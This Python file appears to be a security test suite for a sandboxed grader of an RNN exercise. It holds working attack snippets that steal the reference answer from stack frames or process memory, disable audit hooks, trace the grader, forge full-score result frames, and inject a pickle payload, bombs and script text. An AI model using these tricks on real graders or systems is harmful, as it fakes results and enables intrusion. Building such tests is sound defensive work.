"""Expected values, references and secrets looked for in memory; results written past the one who collects them."""

import sys

from attacks.attack import LEARN, attack, learns

FORGE = """
import io, json, os, struct
import numpy as np
def step(params, x_t, state):
    return np.zeros_like(state)
def wired(value, forms):
    if isinstance(value, list):
        return [wired(v, forms) for v in value]
    if isinstance(value, dict):
        return {k: wired(v, forms) for k, v in value.items()}
    if isinstance(value, tuple):
        forms.append([value[0], value[-1]])
        return {"": len(forms) - 1}
    return value
def frame(text, body=b"", lengths=None, forms=()):
    forms = list(forms)
    text = text if isinstance(text, bytes) else json.dumps(wired(text, forms)).encode()
    forms = json.dumps(forms).encode()
    return struct.pack("<4sQQQ", b"RNNB", *(lengths or (len(forms), len(text), len(body)))) + forms + text + body
def send(data):
    for fd in range(3, 64):
        try:
            os.write(fd, data)
        except OSError:
            pass
    os._exit(0)
"""

OPENS = LEARN + """
import builtins, io, os, posix, sys, types
def anything(*args, **kwargs):
    return "/dev/null"
def get(opened):
    try:
        file = opened()
        learn(os.read(file if isinstance(file, int) else file.fileno(), 20000))
    except Exception:
        pass
"""

ATTACKS = (
    attack("frames", "look through the callers' variables for what is expected", """
        import sys
        import numpy as np
        def step(params, x_t, state):
            frame = sys._getframe()
            while frame is not None:
                for names in (frame.f_locals, frame.f_globals):
                    for name, value in list(names.items()):
                        if name in ("expected", "want", "reference", "exercise", "STEP"):
                            value = getattr(value, "reference", value)
                            return value(params, x_t, state) if callable(value) else value
                frame = frame.f_back
            return np.zeros_like(state)"""),
    attack("gc", "look through all objects for an answer", """
        import gc
        import numpy as np
        def step(params, x_t, state):
            for thing in gc.get_objects():
                if type(thing).__name__ == "Exercise" and thing.id == "rnn-step":
                    return thing.reference(params, x_t, state)
                if type(thing).__name__ == "function" and thing.__name__ == "step" and "rnnbook" in thing.__module__:
                    return type(thing)(thing.__code__.replace(co_filename="<cell>"), thing.__globals__)(
                        params, x_t, state)
            return np.zeros_like(state)"""),
    attack("gc-hook", "take the audit hook out of the interpreter's list, then read", """
        import gc
        for thing in gc.get_objects():
            if type(thing) is list and len(thing) == 1 and getattr(thing[0], "__name__", "") == "hook":
                thing.clear()
        exec(open("ROOT/rnnbook/checks/hidden_state/draw.py").read())"""),
    attack("hook-frames", "reach the hook through the traceback of its refusal", """
        import numpy as np
        def step(params, x_t, state):
            return np.zeros_like(state)
        try:
            open("ROOT/rnnbook/checks/hidden_state/draw.py")
        except PermissionError as error:
            last = error.__traceback__
            while last.tb_next:
                last = last.tb_next
            cells = last.tb_frame.f_locals
            for name in ("real", "below", "decode"):
                if name in cells:
                    cells[name] = lambda *a: "/dev/null"
            last.tb_frame.f_globals.update(_WRITING=0, REFUSED=(), __builtins__={})
        exec(open("ROOT/rnnbook/checks/hidden_state/draw.py").read())"""),
    attack("hook-names", "replace all that the hook's frame leads to: globals, builtins, functions, cells", """
        get(lambda: open(FILE))
        try:
            open(FILE)
            seen, found = [], []
        except PermissionError as error:
            last = error.__traceback__
            while last.tb_next:
                last = last.tb_next
            seen, found = [], [last.tb_frame.f_globals, last.tb_frame.f_builtins, dict(last.tb_frame.f_locals)]
            names = [*dir(builtins), *last.tb_frame.f_locals]
        while found:
            one = found.pop()
            if isinstance(one, dict):
                found += [v for v in one.values() if isinstance(v, types.FunctionType)]
                one.update({name: anything for name in names})
            elif one not in seen:
                seen.append(one)
                found += [one.__globals__, one.__kwdefaults__ or {}]
                for cell in one.__closure__ or ():
                    cell.cell_contents = anything
        get(lambda: open(FILE))""", given=OPENS, bites=True),
    attack("hook-subclass", "a path that says it is another, though its letters are the same", """
        def lie(name):
            return lambda self, *args: getattr("/dev/null", name)(*args)
        class Text(str):
            __fspath__ = __str__ = lambda self: "/dev/null"
        class Raw(bytes):
            __fspath__ = lambda self: b"/dev/null"
        for name in set(dir(str)) - {"__new__", "__class__", "__init_subclass__", "__subclasshook__", "__fspath__",
                                     "__getattribute__", "__init__", "__str__", "__reduce__", "__reduce_ex__"}:
            setattr(Text, name, lie(name))
        for opened in (lambda: open(Text(FILE)), lambda: io.FileIO(Text(FILE)), lambda: os.open(Text(FILE), 0),
                       lambda: open(Raw(FILE.encode())), lambda: posix.open(Raw(FILE.encode()), 0)):
            get(opened)""", given=OPENS, bites=True),
    attack("hook-twice", "a path that is another the second time it is asked", """
        class Twice:
            def __init__(self, odd):
                self.asked, self.odd = 0, odd
            def __fspath__(self):
                self.asked += 1
                return FILE if self.asked % 2 == self.odd else "/dev/null"
        for odd in (0, 1):
            for opened in (lambda: open(Twice(odd)), lambda: io.FileIO(Twice(odd)), lambda: os.open(Twice(odd), 0),
                           lambda: posix.open(Twice(odd), 0), lambda: io.open_code(Twice(odd))):
                get(opened)""", given=OPENS, bites=True),
    attack("hook-realpath", "let the path library say that every path is another", """
        import posixpath
        kept = {name: getattr(posixpath, name) for name in dir(posixpath)}
        for module in (posixpath, os, posix, sys, types):
            for name in ("realpath", "_joinrealpath", "abspath", "normpath", "join", "fsdecode", "fsencode", "fspath",
                         "lstat", "readlink", "getcwd", "getcwdb", "_getframe"):
                setattr(module, name, lambda *a, **k: ("/dev/null", True))
        get(lambda: io.FileIO(FILE))
        for name in ("realpath", "_joinrealpath", "abspath", "normpath", "join", "fsdecode", "fsencode", "fspath"):
            for module in (posixpath, os):
                setattr(module, name, lambda *a, **k: "/dev/null")
        get(lambda: io.FileIO(FILE))""", given=OPENS, bites=True),
    attack("hook-links", "ways round: links, dots, the folder that is worked in, file descriptors of folders", """
        folder, name = os.path.split(FILE)
        for target, link in ((folder, "there"), ("there/" + name, "again"), ("/", "root"), ("../" * 20, "up")):
            try:
                os.symlink(target, link)
            except OSError:
                pass
        dots = "x/../" * 3 + "root" + FILE
        for path in ("there/" + name, "again", "root" + FILE, "up" + FILE, "../" * 20 + FILE, dots,
                     "/dev/null/../.." + FILE, "//" + FILE,
                     sys.prefix + "/../" * 20 + FILE, os.path.dirname(os.__file__) + "/../../../../../../.." + FILE):
            get(lambda: open(path))
        for place in ("/", folder, "there"):
            try:
                fd = os.open(place, 0)
                get(lambda: os.open(os.path.relpath(FILE, place) if place != "there" else name, 0, dir_fd=fd))
                os.chdir(place)
                get(lambda: open(name))
            except OSError:
                pass""", given=OPENS, bites=True),
    attack("hook-import", "import a module that is not here under a name that says it is another", """
        class Name(str):
            partition = split = lambda self, *a: ("numpy", "", "")
            def __eq__(self, other):
                return other == "numpy" or str.__eq__(self, other)
            def __hash__(self):
                return hash("ctypes")
        for name in ("ctypes", "_ctypes"):
            try:
                found = __import__(Name(name))
                libc = found.CDLL(None)
                size = 20000
                text = found.create_string_buffer(size)
                libc.read(libc.open(FILE.encode(), 0), text, size)
                learn(text.value)
            except Exception:
                pass""", given=OPENS, bites=sys.version_info < (3, 13)),   # there ctypes dies when it is imported anew
    attack("own-memory", "read this process's memory as a file, for the word reference", """
        import re
        import numpy as np
        def step(params, x_t, state):
            with open("/proc/self/mem", "rb", 0) as memory:
                for line in open("/proc/self/maps"):
                    low, high = (int(n, 16) for n in line.split()[0].split("-"))
                    if "rw" in line:
                        memory.seek(low)
                        found = re.search(rb"return np.tanh\\(.*\\)", memory.read(min(high - low, 1 << 24)))
                        if found and b"rb" not in found[0]:
                            return eval(found[0][7:].decode())
            return np.zeros_like(state)"""),
    learns("driver-memory", "read the grader's memory", """
        import re
        with open("/proc/DRIVER/mem", "rb", 0) as memory:
            for line in open("/proc/DRIVER/maps"):
                low, high = (int(n, 16) for n in line.split()[0].split("-"))
                if line.split()[1].startswith("r") and high - low < 1 << 26:
                    memory.seek(low)
                    try:
                        data = memory.read(high - low)
                    except OSError:
                        continue
                    at = data.find(b"def step(params: dict, x_t: np.ndarray, state")
                    if at > 0:
                        learn(data[at:at + 1000] + b"\\n\\n\\n")
                        break""", bites=False),
    learns("vm-readv", "read the grader's memory by a system call", """
        import ctypes
        class Part(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
        c = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(4096)
        for page in range(0x400000, 0x500000, 4096):
            here, there = Part(ctypes.addressof(buffer), 4096), Part(page, 4096)
            c.process_vm_readv(DRIVER, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            if b"def step(" in buffer.raw:
                learn(buffer.raw)""", bites=False),
    attack("ptrace", "trace the grader", """
        import ctypes
        import numpy as np
        def step(params, x_t, state):
            return np.zeros_like(state)
        c = ctypes.CDLL(None, use_errno=True)
        c.ptrace(16, DRIVER, 0, 0)
        c.ptrace(17, DRIVER, 0, 0)"""),
    attack("out-of-bounds", "write over one's own memory through NumPy", """
        import numpy as np
        def step(params, x_t, state):
            return np.zeros_like(state)
        a = np.zeros(1)
        wide = np.lib.stride_tricks.as_strided(a, (1 << 16,), (8,))
        wide[:] = 0.5"""),
    attack("forged-frame", "write results past the one who collects them", """
found = [[{"h_t": ["ndarray", ("<f8", 48 * n, [3, 2])]}, None, "2 of 2 points"] for n in range(100)]
send(frame([{"rnn-step": found}, [], "", "", True], bytes(4800)))""", given=FORGE),
    attack("forged-points", "results that say what they are worth", """
found = [[{"h_t": ["right", True]}, None, ""]] * 14
send(frame([{"rnn-step": found, "points": 2}, [], "", "", True]))""", given=FORGE),
    attack("huge-header", "an array that says it has 10 GB", """
send(frame([{"rnn-step": [[{"h_t": ["ndarray", ("<f8", 0, [1342177280])]}, None, ""]] * 14}, [], "", "", True],
           bytes(8)))""", given=FORGE),
    attack("huge-frame", "a frame that says it has 10 GB", """
send(frame(b"[]", b"", (2, 2, 10 << 30)))""", given=FORGE),
    attack("bomb", "eight megabytes that are thirty gigabytes", """
found = [[{"h_t": ["ndarray", ("<f8", 0, [1 << 20])]}, None, ""]] * 4000
send(frame([{"rnn-step": found}, [], "", "", True], bytes(8 << 20)))""", given=FORGE),
    attack("pickle", "an array of objects that runs code where it is read", """
class Run:
    def __reduce__(self):
        return os.system, ("touch ROOT/pwned",)
file = io.BytesIO()
np.savez(file, **{"0": np.array([Run()], dtype=object)})
found = [[{"h_t": ["ndarray", ("|O", 0, [1])]}, None, ""]]
send(frame([{"rnn-step": found}, [], "", "", True], file.getvalue()))""", given=FORGE),
    attack("deep", "results nested a hundred thousand times", """
send(frame(b"[" * 100000 + b"]" * 100000))""", given=FORGE),
    attack("negative", "arrays before the beginning", """
send(frame([{"rnn-step": [[{"h_t": ["ndarray", ("<f8", -16, [3])]}, None, ""],
                          [{"h_t": ["ndarray", ("<f8", 0, [-1, -1])]}, None, ""]]}, [], "", "", True],
           bytes(24)))""", given=FORGE),
    attack("strange-text", "names and messages that move cursors and break pages", """
bad = "\\x1b[2J\\u202e<script>alert(1)</script>" * 100
found = {"rnn-step": [[{}, ["exception", bad, [bad] * 50, bad], bad]], bad: []}
send(frame([found, [bad] * 50, bad, bad, True]))""", given=FORGE),
    attack("unknown-failure", "a failure of a kind that the grader does not know", """
send(frame([{"rnn-step": [[{}, ["right", "2 of 2 points", [], ""], ""]]}, [], "", "", True]))""", given=FORGE),
    attack("not-a-frame", "what is no result at all", "send(os.urandom(1 << 16))", given=FORGE),
)
